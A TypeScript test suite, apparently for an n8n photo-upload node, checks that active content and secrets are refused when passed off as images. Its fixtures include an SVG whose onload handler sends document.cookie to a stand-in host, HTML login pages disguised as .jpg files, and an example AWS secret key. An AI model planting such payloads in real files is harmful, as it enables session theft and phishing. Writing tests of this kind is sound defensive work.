import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

import type { IDataObject } from 'n8n-workflow';

import { serve, useFileHost } from '../node/fileHost.cts';
import type { RunResult } from '../node/fixture.cts';
import { binaryFromBuffer, runEventPics, uploadParameters, useEmulator } from '../node/fixture.cts';

/**
 * Threat: active content and secrets uploaded as photos. An SVG with <script> and onload went up as
 * image/svg+xml without a word, from a binary field, a URL or an agent (whose File URL is the URL source); an HTML page named c.svg
 * too. A UTF-16 HTML login page, a NUL byte followed by HTML, a DER key blob and
 * "\x01AWS_SECRET_ACCESS_KEY=..." named .jpg all went up as image/jpeg.
 *
 * Now SVG and other markup are refused unless File Types "Any File" is on; the content look reads
 * text in UTF-8 and UTF-16 (with or without a byte order mark) and after leading NUL or control
 * bytes, and knows archives, programs, databases, keystores and DER keys. A file named as a photo
 * or video whose bytes are no photo or video format at all is refused when it was fetched (a URL,
 * also an agent's), and goes up with a warning from a binary field (the workflow's own file).
 */
const SVG = Buffer.from(
	'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(`https://x.test/?c=${document.cookie}`)"><script>alert(1)</script></svg>',
);
const LOGIN = '<!DOCTYPE html><html><head><title>Sign in</title></head><body><form>';
const utf16 = (text: string, order: 'le' | 'be', bom: boolean) => {
	const le = Buffer.from(text, 'utf16le');
	const bytes = order === 'le' ? le : Buffer.from(le).swap16();
	return bom
		? Buffer.concat([Buffer.from(order === 'le' ? [0xff, 0xfe] : [0xfe, 0xff]), bytes])
		: bytes;
};
/** The start of a DER-encoded private key (SEQUENCE, long length, INTEGER 0, ...). */
const DER_KEY = Buffer.concat([
	Buffer.from('308204bd020100300d06092a864886f70d0101010500', 'hex'),
	randomBytes(1200),
]);
const JPEG = readFileSync(join(__dirname, '..', '..', 'fixtures', 'samples', 'booth-0001.jpg'));
/** A QuickTime movie of an older camera: its first atom is `moov`, not `ftyp`; then its media data. */
const OLD_MOV = Buffer.concat([
	Buffer.from([0, 0, 0, 0x6c]),
	Buffer.from('moovmvhd'),
	randomBytes(0x6c - 12),
	Buffer.from([0, 0, 0x07, 0xd8]),
	Buffer.from('mdat'),
	randomBytes(2000),
]);

const HOSTILE: Array<[string, string, Buffer, RegExp]> = [
	[
		'an SVG with <script> and onload',
		'x.svg',
		SVG,
		/image\/svg\+xml, markup that can carry scripts, which is neither a photo nor a video$/,
	],
	[
		'an HTML page named c.svg',
		'c.svg',
		Buffer.from(LOGIN),
		/"c\.svg" would be sent as image\/svg\+xml, markup that can carry scripts/,
	],
	[
		'a UTF-16 (BOM) HTML login page',
		'login.jpg',
		utf16(LOGIN, 'le', true),
		/but its content is HTML, not a photo or video$/,
	],
	[
		'a UTF-16 HTML page without BOM',
		'login.jpg',
		utf16(LOGIN, 'le', false),
		/but its content is HTML, not a photo or video$/,
	],
	[
		'a UTF-16 big-endian HTML page',
		'login.jpg',
		utf16(LOGIN, 'be', true),
		/but its content is HTML, not a photo or video$/,
	],
	[
		'a NUL byte followed by HTML',
		'page.jpg',
		Buffer.concat([Buffer.from([0]), Buffer.from(LOGIN)]),
		/but its content is HTML/,
	],
	[
		'"\\x01AWS_SECRET_ACCESS_KEY=..."',
		'creds.jpg',
		Buffer.from('\x01AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'),
		/but its content is text, not a photo or video$/,
	],
	[
		'a DER key blob',
		'key.jpg',
		DER_KEY,
		/but its content is a DER-encoded key or certificate, not a photo or video$/,
	],
	[
		'a ZIP archive',
		'backup.jpg',
		Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(500)]),
		/but its content is a ZIP archive/,
	],
];

const emu = useEmulator();
const host = useFileHost();

const fromBinary = async (fileName: string, bytes: Buffer, options: IDataObject = {}) =>
	await runEventPics({
		emu,
		continueOnFail: true,
		parameters: uploadParameters({ options }),
		inputItems: [
			{
				binary: {
					data: binaryFromBuffer(bytes, { fileName, mimeType: 'application/octet-stream' }),
				},
			},
		],
	});

/** Served by the file host under its name, with the type its name says. */
function hosted(fileName: string, bytes: Buffer, type = 'application/octet-stream'): string {
	host.route(`/${fileName}`, serve.file(bytes, type));
	return `${host.url}/${fileName}`;
}

const fromUrl = async (fileUrl: string, options: IDataObject = {}) =>
	await runEventPics({
		emu,
		continueOnFail: true,
		parameters: uploadParameters({
			source: 'url',
			fileUrl,
			options: { allowInternalAddresses: true, ...options },
		}),
	});

const refusal = (result: RunResult) =>
	String(result.items[0]?.json.error ?? result.nodeError?.message);

describe('security: active content and secrets are not uploaded as photos', () => {
	it.each(HOSTILE)('%s from a binary field is refused', async (_what, name, bytes, reason) => {
		const result = await fromBinary(name, bytes);
		expect(refusal(result)).toMatch(/^The file from binary field "data" is refused: /);
		expect(refusal(result)).toMatch(reason);
		expect(emu.uploads).toHaveLength(0);
	});

	it.each(HOSTILE)('%s from a URL is refused', async (_what, name, bytes, reason) => {
		const result = await fromUrl(hosted(name, bytes));
		expect(refusal(result)).toMatch(reason);
		expect(emu.uploads).toHaveLength(0);
	});

	it('File Types "Any File" lets an SVG through', async () => {
		const result = await fromBinary('logo.svg', SVG, { fileTypes: 'any' });
		expect(result.items[0].json).toMatchObject({
			outcome: 'uploaded',
			contentType: 'image/svg+xml',
		});
	});
});

describe('security: a file named as a photo whose bytes are no photo or video format', () => {
	const NOISE = randomBytes(4000);

	it('fetched from a URL, it is refused', async () => {
		const result = await fromUrl(hosted('noise.jpg', NOISE, 'image/jpeg'));
		expect(refusal(result)).toMatch(
			/"noise\.jpg" would be sent as image\/jpeg, but its first bytes are no photo or video format the node knows$/,
		);
		expect(emu.uploads).toHaveLength(0);
	});

	it('from a binary field, it is refused as from a URL', async () => {
		const result = await fromBinary('noise.jpg', NOISE);
		expect(refusal(result)).toBe(
			'The file from binary field "data" is refused: "noise.jpg" would be sent as image/jpeg, but its first bytes are no photo or video format the node knows',
		);

		expect(emu.uploads).toHaveLength(0);
		const allowed = await fromBinary('noise.jpg', NOISE, { fileTypes: 'any' });
		expect(allowed.items[0].json).toMatchObject({ outcome: 'uploaded', contentType: 'image/jpeg' });
	});

	const PAGE = '<!DOCTYPE html><html><body><form action="/login">Sign in</form></body></html>';
	it.each([
		['HTML with one control byte', Buffer.from(`\u0001${PAGE}`)],
		['HTML with one invalid UTF-8 byte', Buffer.concat([Buffer.from(PAGE), Buffer.from([0xff])])],
		['HTML after 512 NUL bytes', Buffer.concat([Buffer.alloc(512), Buffer.from(PAGE)])],
		[
			'CJK text in UTF-16 without a BOM',
			Buffer.from('\u767b\u5f55\u9875\u9762\u8bf7\u8f93\u5165\u5bc6\u7801'.repeat(30), 'utf16le'),
		],
	])('%s in a binary field named .jpg is refused, not sent as image/jpeg', async (_what, bytes) => {
		const result = await fromBinary('photo.jpg', bytes);
		expect(refusal(result)).toMatch(
			/^The file from binary field "data" is refused: "photo\.jpg" would be sent as image\/jpeg, but /,
		);
		expect(emu.uploads).toHaveLength(0);
	});

	// types the node has a signature for only since issue 39: text under their names was uploaded
	const noise = Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 7919 + i * i) % 256));
	const headed = (...parts: number[][]) =>
		Buffer.concat([...parts.map((p) => Buffer.from(p)), noise]);
	const REAL: Array<[string, Buffer]> = [
		['scan.dng', headed([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0, 0, 0, 0, 0, 0, 0])],
		['layers.psd', headed([0x38, 0x42, 0x50, 0x53, 0, 1, 0, 0, 0, 0, 0, 0])],
		['favicon.ico', headed([0, 0, 1, 0, 1, 0, 16, 16])],
		[
			'clip.wmv',
			headed([
				0x30, 0x26, 0xb2, 0x75, 0x8e, 0x66, 0xcf, 0x11, 0xa6, 0xd9, 0, 0xaa, 0, 0x62, 0xce, 0x6c,
			]),
		],
		['photo.jxl', headed([0xff, 0x0a])],
	];
	it.each(REAL.map(([name]) => name))(
		'text named %s is refused; a file of that format goes up',
		async (name) => {
			const text = Buffer.concat([
				Buffer.from([0x85, 0x85]),
				Buffer.from(PAGE),
				Buffer.from([0xa0]),
			]);
			const refused = await fromBinary(name, text);
			expect(refusal(refused)).toMatch(
				/ is refused: .* but its content is (HTML|text), not a photo or video$/,
			);
			expect(emu.uploads).toHaveLength(0);
			const real = await fromBinary(name, REAL.find(([file]) => file === name)![1]);
			expect(real.items[0].json).toMatchObject({ outcome: 'uploaded', fileName: name });
		},
	);

	it('control: a real JPEG and an old QuickTime movie (moov first) from a URL go up as before', async () => {
		const jpeg = await fromUrl(hosted('booth.jpg', JPEG, 'image/jpeg'));
		expect(jpeg.items[0].json).toMatchObject({ outcome: 'uploaded', warnings: [] });
		const mov = await fromUrl(hosted('old.mov', OLD_MOV, 'video/quicktime'));
		expect(mov.items[0].json).toMatchObject({
			outcome: 'uploaded',
			contentType: 'video/quicktime',
			warnings: [],
		});
	});
});
